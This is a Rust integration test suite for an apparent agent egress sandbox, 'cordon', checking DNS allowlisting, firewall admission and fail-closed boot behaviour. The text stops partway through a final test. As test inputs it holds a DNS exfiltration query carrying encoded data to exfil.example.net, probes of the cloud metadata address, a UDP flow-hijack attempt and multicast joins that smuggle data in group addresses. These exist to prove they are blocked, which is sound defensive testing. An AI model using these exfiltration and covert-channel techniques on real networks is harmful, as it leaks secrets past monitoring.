//! Egress as the agent meets it: real DNS clients (glibc `getent`, `dig`) and real TCP
//! connections from the agent's uid inside cordon's namespaces, against a world namespace with
//! a fake authoritative upstream (which records every query it gets) and TCP servers on
//! documentation addresses.

mod harness;

use std::io::Write as _;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use harness::world::{FakeDns, Greeter, Rec};
use harness::{Cordon, Mode, Phase, Sandbox, TestConfig, WORLD_V4};

const BOOT: Duration = Duration::from_secs(30);

struct World {
    dns: FakeDns,
    _greeters: Vec<Greeter>,
}

/// A sandbox with `allowlist`, the fake upstream, and greeters on `hosts` (added to the world).
fn world(sb: &Sandbox, allowlist: &str, hosts: &[&str]) -> World {
    sb.write_file("domains.conf", allowlist);
    let dns = FakeDns::start(&sb.net.world, format!("{WORLD_V4}:53").parse().unwrap());
    let mut greeters = Vec::new();
    for h in hosts {
        sb.net.add_world_addr(h);
        let addr: SocketAddr =
            if h.contains(':') { format!("[{h}]:443").parse().unwrap() } else { format!("{h}:443").parse().unwrap() };
        greeters.push(Greeter::start(&sb.net.world, addr));
    }
    // Let the world's new addresses finish coming up (IPv6 without DAD is immediate).
    std::thread::sleep(Duration::from_millis(50));
    World { dns, _greeters: greeters }
}

fn ip(s: &str) -> Rec {
    Rec::A(s.parse().unwrap())
}

/// Opens a TCP connection to host:443 with bash's /dev/tcp (glibc resolution for names) and
/// returns the greeting, or the error text.
fn connect(c: &Cordon, host: &str, as_agent: bool) -> Result<String, String> {
    let script = format!("timeout 5 bash -c 'exec 3<>/dev/tcp/{host}/443 && head -n1 <&3'");
    let out = if as_agent { c.agent_exec(&script) } else { c.exec(&script) };
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
    } else {
        Err(format!("{} (exit {:?})", String::from_utf8_lossy(&out.stderr).trim(), out.status.code()))
    }
}

/// `dig` from the agent's uid; returns its whole output.
fn dig(c: &Cordon, args: &str) -> String {
    let out = c.agent_exec(&format!("dig +tries=1 +time=3 {args}"));
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

fn status_of(dig_output: &str) -> &str {
    dig_output.split("status: ").nth(1).and_then(|r| r.split(',').next()).unwrap_or("NO ANSWER")
}

/// The config file for `cfg` with the name-checked ports address-based
/// (`network.name_binding = false`). These tests are about the address layer under the
/// name-bound one: their servers speak first and their clients send no TLS ClientHello or HTTP
/// request, which the name-bound layer refuses by design (tests/namebound.rs tests that layer,
/// over the same firewall). Admission and rejection by address are the same either way: only
/// admitted addresses are redirected to the name check.
fn address_layer_config(sb: &Sandbox, cfg: &TestConfig) -> std::path::PathBuf {
    let text = sb.render_config(cfg).replacen("[network]\n", "[network]\nname_binding = false\n", 1);
    sb.write_file("cordon.toml", &text)
}

fn boot(sb: &Sandbox, cfg: &TestConfig) -> Cordon {
    let mut c = sb.launch(&address_layer_config(sb, cfg), &[], Mode::Pid1, "");
    c.wait_phase(Phase::Ready, BOOT);
    c
}

#[test]
fn allowed_name_resolves_and_connects_from_the_agent_uid_over_ipv4_and_ipv6() {
    let sb = Sandbox::new("allowed");
    let w = world(&sb, "api.example.com\n", &["192.0.2.10", "2001:db8::10"]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10"), ip("2001:db8::10")]);
    let c = boot(&sb, &TestConfig::default());
    let out = c.agent_exec("getent ahosts api.example.com");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("192.0.2.10") && text.contains("2001:db8::10"), "glibc resolution: {text}");
    let greeting = connect(&c, "api.example.com", true).expect("connect by name");
    assert!(greeting.starts_with("hello from"), "{greeting}");
    assert_eq!(connect(&c, "192.0.2.10", true).unwrap(), "hello from 192.0.2.10:443");
    assert_eq!(connect(&c, "2001:db8::10", true).unwrap(), "hello from [2001:db8::10]:443");
}

#[test]
fn denied_name_gets_nxdomain_with_ede_and_is_never_forwarded() {
    let sb = Sandbox::new("denied");
    let w = world(&sb, "api.example.com\n", &[]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    w.dns.set("exfil.example.net", vec![ip("192.0.2.66")]);
    let c = boot(&sb, &TestConfig::default());
    let out = dig(&c, "@127.0.0.53 c2VjcmV0.exfil.example.net A");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    assert!(out.contains("EDE: 15 (Blocked)"), "RFC 8914 Blocked: {out}");
    let out = dig(&c, "@127.0.0.53 exfil.example.net TXT");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    // Malformed packets must not take the server down.
    c.agent_exec(
        "printf 'not a dns packet' > /dev/udp/127.0.0.53/53; head -c 3000 /dev/urandom > /dev/udp/127.0.0.53/53",
    );
    assert_eq!(status_of(&dig(&c, "@127.0.0.53 api.example.com A")), "NOERROR");
    let seen = w.dns.queries();
    assert!(!seen.iter().any(|q| q.contains("exfil")), "a denied name reached upstream: {seen:?}");
    assert!(seen.iter().any(|q| q.starts_with("api.example.com.")), "{seen:?}");
}

#[test]
fn direct_connections_to_addresses_never_resolved_are_rejected_but_root_is_unaffected() {
    let sb = Sandbox::new("directip");
    let _w = world(&sb, "api.example.com\n", &["192.0.2.11", "2001:db8::11"]);
    let c = boot(&sb, &TestConfig::default());
    for host in ["192.0.2.11", "2001:db8::11"] {
        let t0 = Instant::now();
        let err = connect(&c, host, true).expect_err("the agent reached an address it never resolved");
        assert!(err.contains("Connection refused"), "{host}: {err}");
        assert!(t0.elapsed() < Duration::from_secs(3), "rejected, not dropped: took {:?}", t0.elapsed());
        assert_eq!(
            connect(&c, host, false).unwrap(),
            format!("hello from {}:443", if host.contains(':') { format!("[{host}]") } else { host.to_string() })
        );
    }
}

#[test]
fn dns_to_the_world_resolver_is_refused_for_the_agent_but_not_for_root() {
    let sb = Sandbox::new("outsidedns");
    let w = world(&sb, "api.example.com\n", &[]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    w.dns.set("anything.example.net", vec![ip("192.0.2.77")]);
    let c = boot(&sb, &TestConfig::default());
    for transport in ["", "+tcp"] {
        let out = dig(&c, &format!("{transport} @{WORLD_V4} anything.example.net A"));
        assert_ne!(status_of(&out), "NOERROR", "the agent resolved through the world's resolver: {out}");
        assert!(out.contains("refused") || out.contains("no servers could be reached"), "{out}");
    }
    let root = c.exec(&format!("dig +short +tries=1 +time=3 @{WORLD_V4} anything.example.net A"));
    assert_eq!(String::from_utf8_lossy(&root.stdout).trim(), "192.0.2.77", "root is not restricted");
}

#[test]
fn wildcard_and_apex_truth_table_holds_end_to_end() {
    let sb = Sandbox::new("truthtable");
    let w = world(&sb, "example.com\n*.example.org\n", &[]);
    for n in ["example.com", "www.example.com", "example.org", "a.example.org", "a.b.example.org"] {
        w.dns.set(n, vec![ip("192.0.2.30")]);
    }
    let c = boot(&sb, &TestConfig::default());
    let table = [
        ("example.com", "NOERROR"),
        ("www.example.com", "NXDOMAIN"),
        ("example.org", "NXDOMAIN"),
        ("a.example.org", "NOERROR"),
        ("a.b.example.org", "NOERROR"),
        ("EXAMPLE.com", "NOERROR"),
    ];
    for (name, expect) in table {
        let out = dig(&c, &format!("@127.0.0.53 {name} A"));
        assert_eq!(status_of(&out), expect, "{name}: {out}");
    }
}

#[test]
fn international_names_are_matched_in_punycode_by_dig_getent_and_status_why() {
    let sb = Sandbox::new("idn");
    // The allowlist in Unicode, the upstream's zone in punycode, as on the wire.
    let w = world(&sb, "bücher.example.com\n*.münchen.example\n", &["192.0.2.40"]);
    w.dns.set("xn--bcher-kva.example.com", vec![ip("192.0.2.40")]);
    w.dns.set("www.xn--mnchen-3ya.example", vec![ip("192.0.2.40")]);
    w.dns.set("xn--bcker-gra.example.com", vec![ip("192.0.2.40")]);
    let c = boot(&sb, &TestConfig::default());
    for name in ["xn--bcher-kva.example.com", "XN--BCHER-KVA.example.com", "www.xn--mnchen-3ya.example"] {
        let out = dig(&c, &format!("@127.0.0.53 {name} A"));
        assert_eq!(status_of(&out), "NOERROR", "{name}: {out}");
        assert!(out.contains("192.0.2.40"), "{name}: {out}");
    }
    // A different international name (bäcker) stays denied and is never forwarded.
    let out = dig(&c, "@127.0.0.53 xn--bcker-gra.example.com A");
    assert_eq!(status_of(&out), "NXDOMAIN", "{out}");
    assert!(!w.dns.queries().iter().any(|q| q.contains("bcker")), "{:?}", w.dns.queries());
    // glibc, and a connection by name through the firewall.
    let out = c.agent_exec("getent ahosts xn--bcher-kva.example.com");
    assert!(String::from_utf8_lossy(&out.stdout).contains("192.0.2.40"), "getent: {out:?}");
    assert_eq!(connect(&c, "xn--bcher-kva.example.com", true).unwrap(), "hello from 192.0.2.40:443");
    // `status why` agrees with the server, in either form.
    for name in ["bücher.example.com", "xn--bcher-kva.example.com"] {
        let cmd =
            format!("{} status why {name} --config {}", env!("CARGO_BIN_EXE_cordon"), sb.path("cordon.toml").display());
        let out = c.exec(&cmd);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("allowed") && text.contains("192.0.2.40"), "why {name}: {text}");
    }
}

#[test]
fn a_name_whose_addresses_rotate_stays_reachable() {
    let sb = Sandbox::new("rotate");
    let w = world(&sb, "rot.example.com\n", &["192.0.2.20", "192.0.2.21"]);
    w.dns.set_ttl(1);
    w.dns.set("rot.example.com", vec![ip("192.0.2.20")]);
    let c = boot(&sb, &TestConfig::default());
    assert_eq!(connect(&c, "rot.example.com", true).unwrap(), "hello from 192.0.2.20:443");
    w.dns.set("rot.example.com", vec![ip("192.0.2.21")]);
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(connect(&c, "rot.example.com", true).unwrap(), "hello from 192.0.2.21:443");
    // The old address stays admitted for its grace period.
    assert_eq!(connect(&c, "192.0.2.20", true).unwrap(), "hello from 192.0.2.20:443");
}

#[test]
fn private_and_metadata_answers_are_never_admitted() {
    let sb = Sandbox::new("rebind");
    let w = world(&sb, "*.example.com\n", &["192.0.2.40"]);
    w.dns.set("meta.example.com", vec![ip("169.254.169.254")]);
    w.dns.set("mixed.example.com", vec![ip("10.0.0.5"), ip("192.0.2.40"), ip("fd00::5")]);
    let c = boot(&sb, &TestConfig::default());
    let out = c.agent_exec("getent ahosts meta.example.com");
    assert!(!out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    let out = dig(&c, "@127.0.0.53 mixed.example.com A");
    assert!(out.contains("192.0.2.40") && !out.contains("10.0.0.5"), "{out}");
    assert_eq!(connect(&c, "mixed.example.com", true).unwrap(), "hello from 192.0.2.40:443");
    let sets = c.exec("ipset list cordon4; ipset list cordon6");
    let sets = String::from_utf8_lossy(&sets.stdout);
    assert!(sets.contains("192.0.2.40"), "{sets}");
    for never in ["169.254.169.254", "10.0.0.5", "fd00::5"] {
        assert!(!sets.contains(never), "{never} was admitted: {sets}");
    }
    let err = connect(&c, "169.254.169.254", true).expect_err("metadata address reached");
    assert!(err.contains("Connection refused"), "{err}");
}

#[test]
fn upstream_down_keeps_known_names_working_and_fails_new_ones_cleanly() {
    let sb = Sandbox::new("upstreamdown");
    let w = world(&sb, "known.example.com\n*.example.org\n", &["192.0.2.50"]);
    w.dns.set_ttl(1);
    w.dns.set("known.example.com", vec![ip("192.0.2.50")]);
    w.dns.set("new.example.org", vec![ip("192.0.2.50")]);
    let cfg = TestConfig {
        network: "min_ttl = \"1s\"\ngrace = \"1s\"\nrefresh_interval = \"10s\"\n".into(),
        ..TestConfig::default()
    };
    let c = boot(&sb, &cfg);
    assert_eq!(connect(&c, "known.example.com", true).unwrap(), "hello from 192.0.2.50:443");
    w.dns.set_up(false);
    // Well past the 2 s admission of the first answer, and past one refresh that found
    // upstream down: the refresh must have kept the last known address admitted.
    std::thread::sleep(Duration::from_secs(12));
    assert_eq!(connect(&c, "192.0.2.50", true).unwrap(), "hello from 192.0.2.50:443");
    assert_eq!(connect(&c, "known.example.com", true).unwrap(), "hello from 192.0.2.50:443", "served stale");
    let cmd = format!("{} status --json --config {}", env!("CARGO_BIN_EXE_cordon"), sb.path("cordon.toml").display());
    let v = harness::wait_until("a refresh report in status", Duration::from_secs(20), || {
        let v: serde_json::Value = serde_json::from_slice(&c.exec(&cmd).stdout).ok()?;
        (!v["egress"]["last_refresh"].is_null()).then_some(v)
    });
    let refresh = &v["egress"]["last_refresh"];
    assert_eq!(refresh["failed"], serde_json::json!(["known.example.com"]), "{v}");
    assert_eq!(refresh["addresses"], 1, "the last known address was kept: {refresh}");
    assert!(v["dns"]["upstream_last_error"]["message"].is_string(), "{v}");
    assert!(v["dns"]["queries"]["stale"].as_u64().unwrap() >= 1);
    assert_eq!(v["dns"]["queries"]["busy"], 0, "{v}");
    // A stale answer says so (RFC 8914 EDE 3), with why.
    let out = dig(&c, "+time=10 @127.0.0.53 known.example.com A");
    assert_eq!(status_of(&out), "NOERROR", "{out}");
    assert!(out.contains("192.0.2.50"), "{out}");
    assert!(out.contains("EDE: 3 (Stale Answer)") && out.contains("answered from the last good addresses"), "{out}");
    let out = dig(&c, "+time=10 @127.0.0.53 new.example.org A");
    assert_eq!(status_of(&out), "SERVFAIL", "a new name fails cleanly while upstream is down: {out}");
}

#[test]
fn a_refresh_under_continuous_connection_attempts_never_opens_a_window() {
    let sb = Sandbox::new("nowindow");
    let w = world(&sb, "stable.example.com\n", &["192.0.2.60", "192.0.2.61"]);
    w.dns.set_ttl(1);
    w.dns.set("stable.example.com", vec![ip("192.0.2.60")]);
    let cfg = TestConfig {
        network: "min_ttl = \"1s\"\ngrace = \"1s\"\nrefresh_interval = \"10s\"\n".into(),
        ..TestConfig::default()
    };
    let c = boot(&sb, &cfg);
    let script = r#"
ok=0; bad=0; leak=0; end=$((SECONDS+13))
while [ $SECONDS -lt $end ]; do
  if timeout 2 bash -c 'exec 3<>/dev/tcp/stable.example.com/443' 2>/dev/null; then ok=$((ok+1)); else bad=$((bad+1)); fi
  if timeout 2 bash -c 'exec 3<>/dev/tcp/192.0.2.61/443' 2>/dev/null; then leak=$((leak+1)); fi
done
echo "$ok $bad $leak""#;
    let out = c.agent_exec(script);
    let counts: Vec<u64> =
        String::from_utf8_lossy(&out.stdout).split_whitespace().map(|n| n.parse().unwrap()).collect();
    let (ok, bad, leak) = (counts[0], counts[1], counts[2]);
    assert!(ok > 20, "too few attempts to mean anything: {counts:?}");
    assert_eq!(bad, 0, "an allowed connection failed during the refresh window");
    assert_eq!(leak, 0, "a denied connection succeeded");
}

#[test]
fn large_answers_are_not_truncated_for_edns_clients() {
    let sb = Sandbox::new("edns");
    let w = world(&sb, "big.example.com\n", &[]);
    w.dns.set("big.example.com", (100..140).map(|i| ip(&format!("192.0.2.{i}"))).collect());
    let c = boot(&sb, &TestConfig::default());
    let out = dig(&c, "+bufsize=4096 +notcp @127.0.0.53 big.example.com A");
    assert!(out.contains("ANSWER: 40"), "{out}");
    assert!(!out.contains(" tc"), "truncated: {out}");
    // Again, now from cordon's answer cache: whole as well.
    let out = dig(&c, "+bufsize=4096 +notcp @127.0.0.53 big.example.com A");
    assert!(out.contains("ANSWER: 40") && !out.contains(" tc"), "from the cache: {out}");
    // An EDNS client with a 512-byte buffer, and one without EDNS, get what fits, with TC set
    // (they retry over TCP), which answers whole.
    for args in ["+bufsize=512", "+noedns"] {
        let out = dig(&c, &format!("{args} +notcp +ignore @127.0.0.53 big.example.com A"));
        assert_eq!(status_of(&out), "NOERROR", "{args}: {out}");
        assert!(out.contains(" tc"), "{args}: not truncated: {out}");
    }
    let out = dig(&c, "+noedns +tcp @127.0.0.53 big.example.com A");
    assert!(out.contains("ANSWER: 40"), "over TCP: {out}");
}

#[test]
fn bad_allowlist_lines_fail_the_boot_naming_file_and_line() {
    let sb = Sandbox::new("badlist");
    sb.write_file("domains.conf", "ok.example.com\n*\nfine.example.org\n*.com\n");
    let mut c = sb.start(&TestConfig { on_boot_failure: "hold", ..TestConfig::default() }, &[], Mode::Pid1);
    let state = c.wait_phase(Phase::Failed, BOOT);
    let error = state.stages.iter().find(|s| s.name == "config").unwrap().error.clone().unwrap();
    assert!(error.contains("domains.conf:2: `*`"), "{error}");
    assert!(error.contains("domains.conf:4: `*.com`"), "{error}");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

#[test]
fn without_net_admin_the_boot_fails_closed_with_the_capability_hint() {
    let sb = Sandbox::new("nocap");
    let _w = world(&sb, "api.example.com\n", &[]);
    let cfg = sb.write_config(&TestConfig {
        on_boot_failure: "hold",
        agent_command: "touch started; exec sleep 1000".into(),
        ..TestConfig::default()
    });
    let before = "WRAP='setpriv --bounding-set=-net_admin --inh-caps=-net_admin --'";
    let mut c = sb.launch(&cfg, &[], Mode::Pid1, before);
    let state = c.wait_phase(Phase::Failed, BOOT);
    let failed = state.stages.last().unwrap();
    assert_eq!(failed.name, "firewall", "{state:?}");
    assert!(failed.hint.as_deref().unwrap().contains("--cap-add NET_ADMIN"), "{failed:?}");
    assert!(!c.inside(&sb.path("ws/started")).exists(), "the agent started without a firewall");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

#[test]
fn a_read_only_resolv_conf_already_pointing_at_cordon_is_accepted_and_any_other_fails_with_the_fix() {
    let sb = Sandbox::new("ro-resolv");
    let w = world(&sb, "api.example.com\n", &["192.0.2.10"]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    let ours = sb.write_file("ours.conf", "nameserver 127.0.0.53\n");
    let cfg = TestConfig { network: format!("upstream = [\"{WORLD_V4}\"]\n"), ..TestConfig::default() };
    let before = format!("mount --bind {} /etc/resolv.conf\nmount -o remount,bind,ro /etc/resolv.conf", ours.display());
    let mut c = sb.launch(&address_layer_config(&sb, &cfg), &[], Mode::Pid1, &before);
    c.wait_phase(Phase::Ready, BOOT);
    assert_eq!(connect(&c, "api.example.com", true).unwrap(), "hello from 192.0.2.10:443");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    c.wait_exit(BOOT);

    let sb = Sandbox::new("ro-resolv-other");
    let cfg = TestConfig { on_boot_failure: "hold", ..TestConfig::default() };
    let mut c = sb.launch(&sb.write_config(&cfg), &[], Mode::Pid1, "mount -o remount,bind,ro /etc/resolv.conf");
    let state = c.wait_phase(Phase::Failed, BOOT);
    let stage = state.stages.last().unwrap();
    assert_eq!(stage.name, "dns");
    assert!(stage.hint.as_deref().unwrap().contains("--dns 127.0.0.53"), "{stage:?}");
    c.kill(c.reaper(), nix::sys::signal::Signal::SIGTERM);
    assert_eq!(c.wait_exit(BOOT).code(), Some(1));
}

/// Runs `script` (bash) inside cordon's namespaces in the background, detached, as the agent or
/// root; it must bound its own run time.
fn spawn_detached(c: &Cordon, as_agent: bool, script: &str) {
    let wrapped = format!("setsid -f bash -c {} </dev/null >/dev/null 2>&1", shell_quote(script));
    let out = if as_agent { c.agent_exec(&wrapped) } else { c.exec(&wrapped) };
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Runs a python3 program from the sandbox (readable by the agent) with `args`.
fn python(sb: &Sandbox, name: &str, program: &str, args: &str) -> String {
    let path = sb.write_file(name, program);
    format!("timeout 40 python3 {} {args}", path.display())
}

/// A TCP server that greets with "hi <port>" and closes; `python3 greet.py ADDR PORT SECONDS`.
const GREET_PY: &str = r#"
import socket, sys, time
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(16)
s.settimeout(0.2)
end = time.time() + float(sys.argv[3])
while time.time() < end:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    c.sendall(b"hi %s\n" % sys.argv[2].encode())
    c.close()
"#;

/// `connect.py ADDR PORT`: prints the greeting, or the error's name.
const CONNECT_PY: &str = r#"
import socket, sys
try:
    c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
    c.settimeout(3)
    print(c.recv(100).decode().strip())
except OSError as e:
    print(type(e).__name__)
"#;

/// Waits until a TCP listener answers on addr:port (as root, which is never filtered).
fn wait_listening(c: &Cordon, sb: &Sandbox, addr: &str, port: u16) {
    let cmd = python(sb, "connect.py", CONNECT_PY, &format!("{addr} {port}"));
    harness::wait_until(&format!("a listener on {addr}:{port}"), Duration::from_secs(10), || {
        let out = c.exec(&cmd);
        String::from_utf8_lossy(&out.stdout).starts_with("hi ").then_some(())
    });
}

fn agent_connect(c: &Cordon, sb: &Sandbox, addr: &str, port: u16) -> String {
    let out = c.agent_exec(&python(sb, "connect.py", CONNECT_PY, &format!("{addr} {port}")));
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A UDP server in the world that echoes every datagram and records its payload.
struct UdpEcho {
    seen: std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl UdpEcho {
    fn start(ns: &str, addr: SocketAddr) -> UdpEcho {
        use std::sync::atomic::Ordering;
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (s2, st2) = (seen.clone(), stop.clone());
        let (tx, rx) = std::sync::mpsc::channel();
        harness::world::in_netns(ns, move || {
            let sock = std::net::UdpSocket::bind(addr).expect("bind the UDP echo");
            sock.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
            tx.send(()).unwrap();
            let mut buf = [0u8; 2048];
            while !st2.load(Ordering::Relaxed) {
                if let Ok((n, from)) = sock.recv_from(&mut buf) {
                    s2.lock().unwrap().push(buf[..n].to_vec());
                    let _ = sock.send_to(&buf[..n], from);
                }
            }
        });
        rx.recv_timeout(Duration::from_secs(10)).expect("UDP echo did not start");
        UdpEcho { seen, stop }
    }

    fn count(&self, payload: &[u8]) -> usize {
        self.seen.lock().unwrap().iter().filter(|p| p.starts_with(payload)).count()
    }
}

impl Drop for UdpEcho {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

/// `udp.py PORT DEST DPORT PAYLOAD COUNT INTERVAL`: sends COUNT datagrams from local port PORT
/// (SO_REUSEADDR, as a daemon with a fixed source port would set) and reads what comes back.
const UDP_SEND_PY: &str = r#"
import socket, sys, time
port, dest, dport, payload, count, interval = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4].encode(), int(sys.argv[5]), float(sys.argv[6])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", port))
s.setblocking(False)
sent = 0
for i in range(count):
    try:
        s.sendto(payload, (dest, dport))
        sent += 1
    except OSError as e:
        pass
    time.sleep(interval)
    try:
        while True: s.recv(2048)
    except OSError:
        pass
print(sent)
"#;

#[test]
fn the_agent_cannot_send_on_a_udp_flow_root_keeps_open_to_a_host_it_may_not_reach() {
    let sb = Sandbox::new("hijack");
    let w = world(&sb, "api.example.com\n", &["198.51.100.7"]);
    sb.net.add_world_addr("192.0.2.70");
    w.dns.set("api.example.com", vec![ip("192.0.2.70")]);
    let echo = UdpEcho::start(&sb.net.world, "198.51.100.7:4000".parse().unwrap());
    let lines = harness::world::TcpService::start(&sb.net.world, "192.0.2.70:443".parse().unwrap(), |conn| {
        use std::io::{BufRead, BufReader};
        let mut out = conn.try_clone().unwrap();
        for line in BufReader::new(conn).lines().map_while(Result::ok) {
            let _ = writeln!(out, "echo {line}");
        }
    });
    let cfg = TestConfig { network: "min_ttl = \"1s\"\ngrace = \"1s\"\n".into(), ..TestConfig::default() };
    let c = boot(&sb, &cfg);
    // Root's flow: a reply seen, so conntrack holds it ESTABLISHED for its whole life.
    spawn_detached(&c, false, &python(&sb, "udp.py", UDP_SEND_PY, "40000 198.51.100.7 4000 root 150 0.1"));
    harness::wait_until("root's UDP flow to be established", Duration::from_secs(10), || {
        (echo.count(b"root") >= 3).then_some(())
    });
    let out = c.agent_exec(&python(&sb, "udp.py", UDP_SEND_PY, "40000 198.51.100.7 4000 HIJACK 20 0.05"));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    std::thread::sleep(Duration::from_millis(300));
    assert!(echo.count(b"root") >= 5, "root's flow is live (the control)");
    assert_eq!(echo.count(b"HIJACK"), 0, "the agent sent on root's conntrack entry");

    // The agent's own allowed connection keeps working end to end, also once its address's
    // admission (1 s + 1 s here) is long past: it is the connection that is allowed.
    let long_lived = r#"
import socket, time
c = socket.create_connection(("api.example.com", 443), timeout=5)
f = c.makefile("rw")
f.write("one\n"); f.flush(); print(f.readline().strip())
time.sleep(4)
f.write("two\n"); f.flush(); print(f.readline().strip())
"#;
    let out = c.agent_exec(&python(&sb, "long.py", long_lived, ""));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "echo one\necho two\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    drop(lines);
}

/// `sniff.py SECONDS HEX...`: captures every frame in its network namespace (AF_PACKET) for
/// SECONDS and prints each hex marker found in one, once.
const SNIFF_PY: &str = r#"
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.settimeout(0.1)
markers = [bytes.fromhex(m) for m in sys.argv[2:]]
found = set()
print("ready", flush=True)
end = time.time() + float(sys.argv[1])
while time.time() < end:
    try:
        frame = s.recv(65535)
    except socket.timeout:
        continue
    for m in markers:
        if m in frame and m not in found:
            found.add(m)
            print(m.hex(), flush=True)
"#;

/// `join.py SECONDS`: joins an IPv6 group whose address carries data (ff0e::/16, global scope)
/// and an IPv4 one, on the container's interface, and holds them for SECONDS.
const JOIN_PY: &str = r#"
import socket, struct, sys, time
idx = [i for i, n in socket.if_nameindex() if n != "lo"][0]
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff0e::5ec2:e7da:7a00:c0de") + struct.pack("@I", idx))
s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.193.77.42") + socket.inet_aton("192.0.2.2"))
print("joined", flush=True)
time.sleep(float(sys.argv[1]))
"#;

#[test]
fn multicast_joins_by_the_agent_send_no_report_while_neighbour_discovery_keeps_working() {
    let sb = Sandbox::new("mcast");
    let w = world(&sb, "v6.example.com\n", &["2001:db8::30"]);
    w.dns.set("v6.example.com", vec![ip("2001:db8::30")]);
    let c = boot(&sb, &TestConfig::default());

    let agent_v6 = "ff0e0000000000005ec2e7da7a00c0de";
    let agent_v4 = "efc14d2a";
    // The solicited-node group of 2001:db8::ab:cd99, which the system joins for the address
    // root adds below: its report must still leave (the control that the capture works).
    let solicited = "ff0200000000000000000001ffabcd99";
    let sniff = sb.write_file("sniff.py", SNIFF_PY);
    let mut capture = std::process::Command::new("ip")
        .args(["netns", "exec", &sb.net.world, "timeout", "20", "python3"])
        .arg(&sniff)
        .args(["6", agent_v6, agent_v4, solicited])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start the capture in the world");
    let mut stdout = std::io::BufReader::new(capture.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
    assert_eq!(line.trim(), "ready");

    let out = c.exec("ip -6 addr add 2001:db8::ab:cd99/64 dev $(ls /sys/class/net | grep -v '^lo$' | head -n1) nodad");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = c.agent_exec(&python(&sb, "join.py", JOIN_PY, "4"));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "joined", "{}", String::from_utf8_lossy(&out.stderr));
    assert!(capture.wait().unwrap().success());
    let mut found = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut found).unwrap();
    assert!(found.contains(solicited), "the system's own solicited-node report did not leave: {found:?}");
    assert!(!found.contains(agent_v6), "an MLD report carried the agent's IPv6 group out");
    assert!(!found.contains(agent_v4), "an IGMP report carried the agent's IPv4 group out");

    // Neighbour discovery still works: with the neighbour cache flushed, the agent reaches an
    // allowed IPv6 host (which needs a neighbour solicitation answered).
    let out = c.exec("ip -6 neigh flush all; ip -6 neigh show");
    assert!(out.status.success());
    let greeting = connect(&c, "v6.example.com", true).expect("the agent reaches an allowed IPv6 host");
    assert_eq!(greeting, "hello from [2001:db8::30]:443");
}

/// `udprecv.py ADDR PORT FILE SECONDS`: a UDP server that appends every payload to FILE.
const UDP_RECORD_PY: &str = r#"
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2])))
s.settimeout(0.2)
end = time.time() + float(sys.argv[4])
while time.time() < end:
    try:
        data, _ = s.recvfrom(2048)
    except socket.timeout:
        continue
    with open(sys.argv[3], "ab") as f:
        f.write(data + b"\n")
"#;

#[test]
fn dockers_resolver_on_its_real_port_and_every_original_resolver_are_refused_with_an_explicit_upstream() {
    let sb = Sandbox::new("dockerdns");
    let w = world(&sb, "api.example.com\nresolver.example.com\n", &["198.51.100.53"]);
    w.dns.set("api.example.com", vec![ip("192.0.2.10")]);
    // A name that answers with the address of a resolver named in resolv.conf.
    w.dns.set("resolver.example.com", vec![ip("198.51.100.53")]);
    // Docker's resolv.conf, plus a second resolver; the operator names the upstream itself.
    sb.write_file("resolv.conf", "nameserver 127.0.0.11\nnameserver 198.51.100.53\noptions ndots:0\n");
